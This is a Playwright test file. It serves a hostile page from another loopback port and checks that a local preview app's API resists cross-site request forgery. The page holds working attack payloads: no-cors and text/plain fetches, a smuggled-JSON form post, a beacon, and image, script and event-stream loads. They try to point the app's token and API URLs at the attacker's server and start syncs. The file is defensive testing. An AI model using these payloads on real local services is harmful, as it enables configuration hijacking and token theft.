import { createServer, type IncomingMessage, type Server } from 'node:http'
import { expect, test } from '@playwright/test'
import { callApi, demoReady, serverInfo } from './server-info'

interface Seen {
  method: string
  url: string
  headers: IncomingMessage['headers']
  body: string
}

/**
 * The page a hostile local dev server would serve: every trick a page on another port of
 * 127.0.0.1 has against the preview (fetch with and without CORS, text/plain JSON, a form post,
 * image, script and event-stream loads, a beacon), then it reports what it saw to its own server.
 */
function hostilePage(preview: string, hostile: string): string {
  const evil = JSON.stringify({ baseUrls: { meta: `${hostile}/graph` }, tokenUrls: { snapchat: `${hostile}/tok` } })
  return `<!doctype html><meta charset="utf-8"><title>free coupons</title>
<form id="f" method="POST" action="${preview}/api/sync:updateConfig" enctype="text/plain" target="sink">
  <input name='${evil.slice(0, -1)},"x":"' value='"}'>
</form>
<iframe name="sink" id="sink"></iframe>
<script>
const P = ${JSON.stringify(preview)}
const EVIL = ${JSON.stringify(evil)}
const results = []
const attempt = (name, p) => p.then((r) => results.push([name, 'answered', r && r.type, r && r.status]), (e) => results.push([name, 'failed', String(e)]))
const loaded = (el) => new Promise((res) => { el.onload = () => res('load'); el.onerror = () => res('error') })
async function run() {
  await Promise.all([
    attempt('no-cors text/plain', fetch(P + '/api/sync:updateConfig', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: EVIL })),
    attempt('cors json', fetch(P + '/api/sync:updateConfig', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: EVIL })),
    attempt('no-cors sync:start', fetch(P + '/api/sync:start', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"workspaceId":1}' })),
    attempt('no-cors settings', fetch(P + '/api/settings:update', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"syncIntervalHours":1}' })),
    attempt('token guess in query', fetch(P + '/api/settings:get?token=guess', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' })),
    attempt('read index', fetch(P + '/', { credentials: 'include' })),
  ])
  results.push(['beacon', navigator.sendBeacon(P + '/api/sync:start', '{"workspaceId":1}')])
  const img = document.createElement('img')
  const imgDone = loaded(img)
  img.src = P + '/api/sync:start'
  document.body.append(img)
  const script = document.createElement('script')
  const scriptDone = loaded(script)
  script.src = P + '/api/settings:get'
  document.body.append(script)
  results.push(['img', await imgDone], ['script', await scriptDone])
  const es = new EventSource(P + '/api/events', { withCredentials: true })
  results.push(['event-source', await new Promise((res) => { es.onopen = () => res('open'); es.onerror = () => res('error') })])
  es.close()
  const sink = document.getElementById('sink')
  const posted = loaded(sink)
  document.getElementById('f').submit()
  results.push(['form', await posted])
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) })
  document.title = 'done'
}
run()
</script>`
}

test.describe('a page on another loopback port', () => {
  let hostile: Server
  let hostileOrigin = ''
  const seen: Seen[] = []

  test.beforeAll(async () => {
    await demoReady()
    hostile = createServer((req, res) => {
      let body = ''
      req.on('data', (c: Buffer) => (body += c.toString()))
      req.on('end', () => {
        seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body })
        if (req.url?.startsWith('/attack')) {
          const preview = new URL(serverInfo().url).origin
          res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(hostilePage(preview, hostileOrigin))
        } else res.writeHead(204).end()
      })
    })
    await new Promise<void>((r) => hostile.listen(0, '127.0.0.1', () => r()))
    const addr = hostile.address()
    hostileOrigin = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`
  })
  test.afterAll(async () => {
    await new Promise<void>((r) => hostile.close(() => r()))
  })

  test('cannot change settings or sync config, start a sync, or learn the token', async ({ context }) => {
    const token = new URL(serverInfo().url).searchParams.get('token') as string
    const before = {
      settings: await callApi('settings:get', {}),
      config: await callApi('sync:getConfig', {}),
      syncJobs: (await callApi<{ kind: string }[]>('jobs:list', { limit: 200 })).filter((j) => j.kind === 'sync:run')
        .length,
    }

    // The user has the preview open in this browser, so any ambient credential would be present.
    const preview = await context.newPage()
    await preview.goto(serverInfo().url)
    await expect(preview.getByTestId('page-dashboard')).toBeVisible()
    expect(preview.url()).not.toContain('token=')

    const page = await context.newPage()
    await page.goto(`${hostileOrigin}/attack`)
    await expect(page).toHaveTitle('done', { timeout: 30_000 })

    const report = seen.find((s) => s.url === '/report')
    expect(report, 'the hostile page finished its attempts').toBeDefined()
    const results = JSON.parse(report?.body ?? '[]') as unknown[][]
    // Nothing it tried was readable: CORS failed, no-cors answers are opaque, loads errored.
    expect(results.find((r) => r[0] === 'cors json')?.[1]).toBe('failed')
    expect(results.find((r) => r[0] === 'event-source')?.[1]).toBe('error')

    await preview.reload()
    await expect(preview.getByTestId('page-dashboard')).toBeVisible()
    const after = {
      settings: await callApi('settings:get', {}),
      config: await callApi('sync:getConfig', {}),
      syncJobs: (await callApi<{ kind: string }[]>('jobs:list', { limit: 200 })).filter((j) => j.kind === 'sync:run')
        .length,
    }
    expect(after).toEqual(before)

    // The hostile server saw its own page load and the report, and never the token: no cookie,
    // no header, no URL or body carrying it, no API call redirected to it.
    expect(seen.length).toBeGreaterThan(1)
    for (const s of seen) {
      expect(JSON.stringify(s), `${s.method} ${s.url}`).not.toContain(token)
      expect(s.headers.cookie ?? '', `${s.method} ${s.url}`).not.toMatch(/me_token/)
      expect(s.headers.authorization, `${s.method} ${s.url}`).toBeUndefined()
    }
  })
})
